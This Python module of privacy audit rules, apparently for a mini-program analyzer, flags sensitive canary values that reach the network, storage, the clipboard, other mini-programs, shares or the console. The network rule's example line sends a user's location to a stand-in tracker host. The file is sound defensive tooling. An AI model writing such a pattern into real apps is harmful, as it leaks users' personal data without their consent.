"""privacy: sensitive values (canaries) that reach the network, storage, the clipboard, another mini-program, a share."""

from __future__ import annotations

from typing import Iterable

from ...apis.canary import CANARY_KINDS
from ..artifacts import Artifacts, RunArtifacts
from ..model import Severity
from ..policy import Policy
from .base import Hit, audit, event_evidence

NETWORK_SINKS = ("network", "upload", "socket", "analytics")
# Values the user hands over on purpose, or that exist to be sent to the developer's own server.
EXPECTED_TO_SERVER = ("identity", "file")


def _flows(art: Artifacts, sinks: tuple[str, ...]):
    for run in art.runs:
        for e in run.trace.of_kind("flow"):
            if e.sink in sinks:
                yield run, e


def _describe(e) -> str:
    category = CANARY_KINDS.get(e.source_kind, e.source_kind)
    via = "" if e.encoding == "plain" else f" ({e.encoding})"
    to = f" → {e.destination}" if e.destination else ""
    return f"{category} from {e.source_api} reaches {e.sink_api}{to}{via}"


_CALLS: dict[int, tuple[object, dict[str, list]]] = {}


def _source_call(run: RunArtifacts, flow) -> object | None:
    """The last call of the flow's source API before the flow: where the data came from."""
    cached = _CALLS.get(id(run.trace))
    if cached is None or cached[0] is not run.trace:
        by_api: dict[str, list] = {}
        for c in run.trace.api_calls():
            by_api.setdefault(c.api, []).append(c)
        _CALLS.clear()  # one walk at a time: no growth across reviews
        cached = _CALLS[id(run.trace)] = (run.trace, by_api)
    calls = cached[1].get(flow.source_api, [])
    before = [c for c in calls if c.seq < flow.seq]
    return before[-1] if before else None


def _hit(run: RunArtifacts, e, message: str, severity: Severity | None = None) -> Hit:
    category = CANARY_KINDS.get(e.source_kind, e.source_kind)  # latitude and longitude are one finding
    evidence = [event_evidence(run, e, _describe(e), {"destination": e.destination, "encoding": e.encoding,
                                                       "consent": e.consent, "declared": e.declared})]
    source = _source_call(run, e)
    if source is not None and source.stack:
        evidence.append(event_evidence(run, source, f"source: {source.called_as} returned the {category}"))
    return Hit(message=message, key=f"{category}|{e.sink_api}|{e.destination}", evidence=evidence, severity=severity)


@audit(
    "data-to-network",
    title="Sensitive data sent over the network",
    category="privacy",
    severity=Severity.ERROR,
    description="""A value returned by a sensitive API (location, phone number, profile, clipboard, address,
    device identifiers...) was found in a request, upload or socket message, also after JSON, URL, base64 or hex
    encoding or rounding. Sending it to a domain outside the allow-list is an error; sending it without the user's
    consent or without declaring the scope is a warning; an allow-listed domain after consent and declaration is
    fine.""",
    fix="""Send personal data only to your own declared domains, only after the user agreed, and only what the
    feature needs (e.g. round coordinates server-side, never upload the clipboard).""",
    example="tt.getLocation({success: r => tt.request({url: 'https://tracker.example/?lat=' + r.latitude})})",
)
def data_to_network(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, NETWORK_SINKS):
        category = CANARY_KINDS.get(e.source_kind, "identity")
        if e.sink == "analytics":  # reportAnalytics and friends: the platform's own collection
            if category not in EXPECTED_TO_SERVER:
                yield _hit(run, e, f"{_describe(e)}: personal data in analytics events", Severity.WARNING)
            continue
        listed = policy.domain_allowed(e.destination)
        if not listed:
            yield _hit(run, e, f"{_describe(e)}: {e.destination or 'an unknown destination'} is not in the "
                               "allow-list", Severity.ERROR)
        elif category in EXPECTED_TO_SERVER:
            continue
        elif category == "clipboard":
            # no platform asks before a read, and the clipboard holds whatever the user copied last, from any app
            yield _hit(run, e, f"{_describe(e)}: clipboard contents leave the device", Severity.WARNING)
        elif not e.consent or not e.declared:
            why = "without the user's consent" if not e.consent else "without declaring the scope"
            yield _hit(run, e, f"{_describe(e)} {why}", Severity.WARNING)
        elif not policy.allow_domains:
            yield _hit(run, e, f"{_describe(e)} (no allow-list given: pass --allow-domain to judge the destination)",
                       Severity.INFO)


@audit(
    "data-to-storage",
    title="Sensitive data written to storage",
    category="privacy",
    severity=Severity.WARNING,
    description="""A sensitive value (location, phone number, profile, clipboard...) is persisted with
    setStorage. Local storage outlives the session and is readable by the whole mini-program; keep personal data
    there only when the feature needs it.""",
    fix="Keep the value in memory, or store a derived, non-identifying form (a city instead of coordinates).",
    example="tt.setStorageSync('phone', res.phoneNumber)",
)
def data_to_storage(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, ("storage",)):
        if CANARY_KINDS.get(e.source_kind) in EXPECTED_TO_SERVER:
            continue
        yield _hit(run, e, _describe(e))


@audit(
    "data-to-clipboard",
    title="Sensitive data copied to the clipboard",
    category="privacy",
    severity=Severity.WARNING,
    description="""A sensitive value is written to the system clipboard, where every other app can read it.""",
    fix="Do not copy personal data to the clipboard; let the user copy what they choose.",
    example="tt.setClipboardData({data: userInfo.nickName + ' ' + location})",
)
def data_to_clipboard(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, ("clipboard",)):
        yield _hit(run, e, _describe(e))


@audit(
    "data-to-miniprogram",
    title="Sensitive data handed to another mini-program",
    category="privacy",
    severity=Severity.ERROR,
    description="""A sensitive value is passed to another mini-program (navigateToMiniProgram extraData),
    a third party the user never consented to share it with.""",
    fix="Pass only an opaque order or session id; let the other mini-program ask the user itself.",
    example="tt.navigateToMiniProgram({appId: 'tt123', extraData: {phone}})",
)
def data_to_miniprogram(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, ("miniprogram",)):
        yield _hit(run, e, _describe(e))


@audit(
    "data-to-share",
    title="Sensitive data in a share payload",
    category="privacy",
    severity=Severity.WARNING,
    description="""A sensitive value ends up in what the page shares (onShareAppMessage title, path or query),
    so it travels to whoever receives the share.""",
    fix="Share a page path with an opaque id, never the user's data.",
    example="onShareAppMessage() { return {path: '/pages/a/a?lat=' + this.data.lat} }",
)
def data_to_share(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, ("share",)):
        yield _hit(run, e, _describe(e))


@audit(
    "data-to-console",
    title="Sensitive data written to the console",
    category="privacy",
    severity=Severity.INFO,
    description="""A sensitive value is printed with console.*; on devices logs can be collected by
    debugging tools and crash reporters.""",
    fix="Remove logging of personal data before release.",
    example="console.log('location', res.latitude, res.longitude)",
)
def data_to_console(art: Artifacts, policy: Policy) -> Iterable[Hit]:
    for run, e in _flows(art, ("console",)):
        yield _hit(run, e, _describe(e))
